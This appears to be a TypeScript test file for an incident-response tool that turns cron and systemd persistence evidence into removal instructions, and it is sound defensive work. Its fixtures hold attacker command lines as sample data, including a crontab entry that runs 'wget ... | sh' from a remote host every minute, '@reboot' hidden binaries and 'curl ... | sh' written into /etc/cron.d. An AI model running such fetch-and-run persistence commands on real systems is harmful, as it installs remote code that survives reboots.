import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import type { DecidedEvidence } from '#shared/model/finding.ts';
import type { Sample } from '#shared/model/indicator.ts';
import { artifact } from '#shared/model/place.ts';
import { spelledLines, spoolFile } from '#shared/report/crontab-entry.ts';
import { entriesOf } from '#shared/report/entries.ts';
import { triage } from '#shared/report/triage.ts';
import { COVERAGE, evidence, finding, LOOKUP, MINER, sample } from './findings.ts';

const PIPED =
  'sh -c (crontab -l 2>/dev/null; echo "* * * * * wget -q -O - http://198.51.100.10/u.sh | sh") | crontab -';

const command = (one: Partial<Sample>, fields: Partial<DecidedEvidence> = {}): DecidedEvidence =>
  evidence('persistence_setup', 'persistence_command', 'T1053.003', sample(3, one), fields);
const file = (one: Partial<Sample>, fields: Partial<DecidedEvidence> = {}): DecidedEvidence =>
  evidence('persistence_setup', 'persistence_file/cron', 'T1053.003', sample(4, one), fields);

const removals = (...all: DecidedEvidence[]): string[] => entriesOf(all).map(({ removal }) => removal);
const namesOf = (...all: DecidedEvidence[]): string[] => entriesOf(all).map(({ name }) => name);

test('names the crontab and the entry, not the command that set it', () => {
  const [removal = '', ...more] = removals(
    command({ commandLine: PIPED, uid: '0' }, { artifacts: ['url:http://198.51.100.10/u.sh'] }),
  );
  assert.deepEqual(more, []);
  assert.match(
    removal,
    /^Remove the entry `\* \* \* \* \* wget -q -O - http:\/\/198\.51\.100\.10\/u\.sh \| sh` from the crontab of user root \(`crontab -l -u root`, \/var\/spool\/cron\/root or \/var\/spool\/cron\/crontabs\/root\) \(T1053\.003 Cron, first [^;]*\)$/,
  );
});

test('names the crontab of a uid with its login where no record names the user', () => {
  const identity = { uid: '1000', auid: '1000', session: '502' };
  const [removal = ''] = removals(
    command(
      { commandLine: 'sh -c (crontab -l; echo "@reboot /var/tmp/.h/h -B") | crontab -', ...identity },
      { artifacts: ['cmd:/var/tmp/.h/h -B', 'path:/var/tmp/.h/h'] },
    ),
  );
  assert.match(
    removal,
    /^Remove the entry `@reboot \/var\/tmp\/\.h\/h -B` from the crontab of uid 1000 \(`crontab -l -u "\$\(id -nu 1000\)"`, in \/var\/spool\/cron or .*; login uid 1000, session 502\)/,
  );
});

test('tells the final file from the temporary name of crontab, and makes one entry of what tells of one crontab', () => {
  const temporary = sample(4, {
    path: '/var/spool/cron/#tmp.web-1.XXXXqW3zRt',
    executable: '/usr/bin/crontab',
    uid: '0',
  });
  const final = { ...temporary, path: '/var/spool/cron/root', id: 'other' };
  const entries = removals(
    command({ commandLine: PIPED, uid: '0' }),
    file({}, { samples: [temporary, final], artifacts: ['path:/var/spool/cron/root'] }),
  );
  assert.equal(entries.length, 1);
  assert.match(entries[0] ?? '', /^Remove the entry .* user root \(`crontab -l -u root`, \/var\/spool\/cron\/root\)/);
  const alone = entriesOf([file({ ...temporary, uid: '1001', auid: '1001', session: '9' })])[0];
  assert.match(alone?.removal ?? '', /crontab of uid 1001 .*in \/var\/spool\/cron; login uid 1001, session 9\)/);
  assert.doesNotMatch(`${alone?.name}${alone?.removal}`, /#tmp/);
});

test('says whose session it was where the record names no user', () => {
  assert.match(
    removals(file({ path: '/var/spool/cron/crontabs/tmp.aB3dE6' }))[0] ?? '',
    /the crontab of the user of that session \(in \/var\/spool\/cron\/crontabs\)/,
  );
});

test('learns the name of a uid from its own spool file', () => {
  const entries = removals(
    command({ commandLine: PIPED, uid: '1000' }),
    file({ path: '/var/spool/cron/crontabs/ubuntu', uid: '1000' }),
  );
  assert.equal(entries.length, 1);
  assert.match(entries[0] ?? '', /user ubuntu \(`crontab -l -u ubuntu`, \/var\/spool\/cron\/crontabs\/ubuntu\)/);
});

for (const [commandLine, whose] of [
  ['crontab -u www-data /tmp/c', 'user www-data'],
  ['sh -c (crontab -l; cat x) | sudo crontab -', 'user root'],
  ['sudo -u bob /usr/bin/crontab -', 'user bob'],
  ['/usr/bin/crontab -', 'uid 1000'],
] as const) {
  test(`reads whose crontab is meant by: ${commandLine}`, () => {
    assert.match(namesOf(command({ commandLine, uid: '1000' }))[0] ?? '', new RegExp(`^the crontab of ${whose} `));
  });
}

test('keeps apart the crontabs of two users and other entries of one item', () => {
  const one = command(
    {},
    {
      samples: [
        sample(1, { id: 'a', commandLine: PIPED, uid: '0' }),
        sample(2, { id: 'b', commandLine: 'crontab -', uid: '33' }),
        sample(3, { id: 'c', commandLine: 'systemctl enable kwork', uid: '0' }),
      ],
      artifacts: ['unit:kwork.service'],
    },
  );
  const names = namesOf(one);
  assert.deepEqual([names.length, names[2]], [3, 'kwork.service']);
  assert.match(names.join('\n'), /user root[\s\S]*uid 33/);
});

test('names every file that one item of evidence tells of', () => {
  const samples = ['/etc/cron.d/a', '/etc/cron.d/b'].map((path, at) => sample(at, { path, id: path }));
  assert.deepEqual(namesOf(file({}, { samples })), ['/etc/cron.d/a', '/etc/cron.d/b']);
});

test('names the file that a command wrote, not what the file starts', () => {
  const one = file(
    { commandLine: 'sh -c echo "* * * * * root /dev/shm/x" > /host/etc/cron.d/x' },
    { artifacts: ['cmd:/dev/shm/x', 'path:/dev/shm/x', 'path:/etc/cron.d/x', 'path:/host/etc/cron.d/x'] },
  );
  assert.deepEqual(namesOf(one), ['/host/etc/cron.d/x']);
});

test('never tells to remove a command that is over', () => {
  for (const [technique, commandLine, wanted] of [
    ['T1543.002', 'docker run --restart always -d x', /^Undo what this command set up: `docker run/],
    [
      'T1053.002',
      'at now + 1 minute',
      /^Remove the job \(`atq` lists, `atrm` removes\) that this command left: `at now/,
    ],
  ] as const)
    assert.match(removals({ ...command({ commandLine }), technique })[0] ?? '', wanted);
});

test('says before the kill which crontab starts the miner again', () => {
  const one = finding('High', [MINER, LOOKUP, command({ commandLine: PIPED, uid: '0' })]);
  const text = triage(one, COVERAGE)[0]?.actions.join('\n') ?? '';
  assert.match(text, /step 4 before you kill anything: the crontab of user root \([^)]*\) can start the miner again/);
});

test('watches the folder, not the temporary file of a crontab', () => {
  const one = finding('High', [MINER, LOOKUP, file({ path: '/var/spool/cron/#tmp.web-1.XXXXqW3zRt' })]);
  assert.match(
    triage(one, COVERAGE)[8]?.actions.join('\n') ?? '',
    /Watch these for changes, with an alarm: \/var\/spool\/cron\./,
  );
});

test('reads the lines that a command line spells out for a crontab', () => {
  for (const [text, wanted] of [
    [`sh -c (crontab -l; echo '*/5 1-3 * jan mon /x "y"') | crontab -`, ['*/5 1-3 * jan mon /x "y"']],
    [String.raw`printf "* * * * * /a\n@hourly /b\n" | crontab -`, ['* * * * * /a', '@hourly /b']],
    [`bash -c 'echo "@daily /c" | crontab -'`, ['@daily /c']],
    ['echo "* * * * * /cut short', ['* * * * * /cut short']],
    ['echo "to be or not to be" | crontab -', []],
    ['crontab -', []],
  ] as const)
    assert.deepEqual(spelledLines(text), wanted);
});

test('tells spool files, their users and temporary names', () => {
  for (const [path, wanted] of [
    ['/var/spool/cron/root', { folder: '/var/spool/cron', user: 'root' }],
    ['/host/var/spool/cron/crontabs/www-data', { folder: '/host/var/spool/cron/crontabs', user: 'www-data' }],
    ['/var/spool/cron/tabs/bob', { folder: '/var/spool/cron/tabs', user: 'bob' }],
    ['/etc/crontabs/root', { folder: '/etc/crontabs', user: 'root' }],
    ['/var/spool/cron/crontabs/tmp.aB3dE6', { folder: '/var/spool/cron/crontabs' }],
    ['/etc/crontabs/root.new', { folder: '/etc/crontabs' }],
    ['/var/spool/cron/crontabs', undefined],
    ['/etc/cron.d/x', undefined],
    ['/var/spool/cron/atjobs/a0001', undefined],
  ] as const)
    assert.deepEqual(spoolFile(path), wanted);
});

test('never throws on what an attacker writes', () => {
  const text = fc.string({
    unit: fc.constantFrom('"', "'", '\\', ' ', '*', '@', '\n', 'crontab', '-u', 'sudo', '1'),
    maxLength: 80,
  });
  fc.assert(
    fc.property(text, fc.option(text, { nil: undefined }), (commandLine, path) => {
      const one = command({ commandLine, uid: commandLine, ...(path === undefined ? {} : { path }) });
      assert.ok(entriesOf([one]).length > 0);
    }),
  );
});

for (const [commandLine, paths, expected] of [
  ['unzip /tmp/a.zip -d /etc/cron.d', ['/tmp/a.zip'], 'Remove from /etc/cron.d what came from /tmp/a.zip'],
  ['unzip -qo /root/a.zip -d/etc/cron.d', ['/root/a.zip'], 'Remove from /etc/cron.d what came from /root/a.zip'],
  ['tar -xf /tmp/a.tar -C /host/etc/cron.d', ['/tmp/a.tar'], 'Remove from /host/etc/cron.d what came from /tmp/a.tar'],
  [
    'tar xf /tmp/a --directory=/etc/systemd/system',
    ['/tmp/a'],
    'Remove from /etc/systemd/system what came from /tmp/a',
  ],
  ['cpio -idD /etc/cron.d', [], 'Remove from /etc/cron.d what came into it then'],
  [
    'sh -c cd /etc/cron.d && cpio -id < /tmp/a.cpio',
    ['/tmp/a.cpio'],
    'Remove from /etc/cron.d what came from /tmp/a.cpio',
  ],
  ['cp -r /tmp/c/. /etc/cron.d/', ['/tmp/c/.'], 'Remove from /etc/cron.d what came from /tmp/c/.'],
] as const) {
  test(`names the place that a command filled: ${commandLine}`, () => {
    const artifacts = paths.map((path) => artifact('path', path));
    const [entry, ...more] = entriesOf([file({ commandLine }, { artifacts })]);
    assert.deepEqual(more, []);
    assert.ok(entry?.removal.startsWith(`${expected} (T1053.003 Cron, first `), entry?.removal);
    assert.ok(entry?.removal.endsWith(`; set up by: ${commandLine})`), entry?.removal);
    assert.match(entry?.name ?? '', /^\/(?:host\/)?etc\/(?:cron\.d|systemd\/system) \(what came /);
  });
}

test('names the file where it is known, beside the folder that another command filled', () => {
  for (const [commandLine, path] of [
    ['cp -t /etc/cron.d /tmp/x', '/etc/cron.d/x'],
    ['sh -c cd /etc/cron.d && wget http://198.51.100.7/c', '/etc/cron.d/c'],
    ['tar -xf /tmp/a.tar -C /etc/cron.d job', '/etc/cron.d/job'],
  ] as const) {
    assert.deepEqual(namesOf(file({ commandLine }, { artifacts: [artifact('path', path)] })), [path], commandLine);
  }
  const both = file(
    {},
    {
      samples: [
        sample(4, { commandLine: 'cp /tmp/x /etc/cron.d/x' }),
        sample(5, { commandLine: 'unzip /tmp/a.zip -d /etc/cron.d' }),
      ],
      artifacts: ['path:/etc/cron.d/x', 'path:/tmp/a.zip', 'path:/tmp/x'],
    },
  );
  assert.deepEqual(namesOf(both).sort(), ['/etc/cron.d (what came from /tmp/a.zip)', '/etc/cron.d/x']);
});

test('never throws on a command that fills folders, and takes linear time over it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), fc.array(fc.string()), (commandLine, paths) => {
      entriesOf([file({ commandLine }, { artifacts: paths.map((path) => artifact('path', path)) })]);
    }),
  );
  const long = `unzip ${'/a'.repeat(50_000)} ${'" '.repeat(50_000)} -d /etc/cron.d`;
  assert.equal(entriesOf([file({ commandLine: long }, { artifacts: ['url:http://198.51.100.7/c'] })]).length, 1);
});

test('says where the content of an entry came from, and what the entry fetches itself', () => {
  const url = 'http://198.51.100.7/c';
  const told = (commandLine: string): string =>
    removals(file({ commandLine }, { artifacts: ['path:/etc/cron.d/c', `url:${url}`] }))[0] ?? '';
  for (const line of [
    `wget -P /etc/cron.d ${url}`,
    `curl "${url}" -o /etc/cron.d/c`,
    `sh -c 'curl -s ${url} -o /etc/cron.d/c'`,
  ]) {
    assert.match(told(line), /; its content came from: http:\/\/198\.51\.100\.7\/c\)$/, line);
    assert.doesNotMatch(told(line), /it starts/, line);
  }
  assert.match(told(`sh -c echo "* * * * * root curl ${url} | sh" > /etc/cron.d/c`), /; it fetches: http/);
  assert.match(told('cp /tmp/c /etc/cron.d/c'), /; named with it: http/);
});

test('gives a unit beside a crontab the technique of units', () => {
  const one = command(
    {},
    {
      samples: [
        sample(3, { commandLine: 'sh -c echo "* * * * * /tmp/.x/a" | crontab -', uid: '0' }),
        sample(4, { commandLine: 'systemctl enable --now upd.service', uid: '0' }),
        sample(5, { commandLine: 'systemd-run --on-calendar=hourly /tmp/.x/a', uid: '0' }),
      ],
      artifacts: ['cmd:/tmp/.x/a', 'unit:upd.service', 'unit:upd.timer'],
    },
  );
  const all = removals(one);
  assert.ok(
    all.some((text) => text.startsWith('Remove upd.service (T1543.002 Systemd Service, ')),
    all.join('\n'),
  );
  assert.ok(
    all.some((text) => text.startsWith('Remove upd.timer (T1053.006 Systemd Timers, ')),
    all.join('\n'),
  );
  assert.ok(
    all.some((text) => /^Remove the entry .*\(T1053\.003 Cron, /.test(text)),
    all.join('\n'),
  );
});
